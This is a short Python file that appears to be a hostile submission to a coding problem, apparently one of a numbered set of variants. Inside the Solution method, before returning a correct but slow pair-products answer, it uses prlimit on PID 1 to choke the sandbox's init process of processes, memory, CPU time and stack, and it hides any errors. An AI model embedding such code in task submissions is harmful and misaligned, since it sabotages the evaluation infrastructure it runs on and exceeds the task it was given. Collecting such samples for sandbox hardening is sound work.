# Kind 7, prlimit on PID 1: no more processes, almost no address space and one second of CPU for
# the jail's init, then the honest answer.
import resource


def slow(nums):
    n = len(nums)
    out = [0] * n
    for i in range(n):
        a = nums[i]
        t = 0
        for j in range(i + 1, n):
            t += a * nums[j]
        out[i] = t
    return out


class Solution:
    def pairProducts(self, nums: List[int]) -> List[int]:
        for limit, value in (
            (resource.RLIMIT_NPROC, 1),
            (resource.RLIMIT_AS, 1 << 20),
            (resource.RLIMIT_CPU, 1),
            (resource.RLIMIT_STACK, 1 << 16),
        ):
            try:
                resource.prlimit(1, limit, (value, value))
            except (OSError, ValueError):
                pass
        return slow(nums)
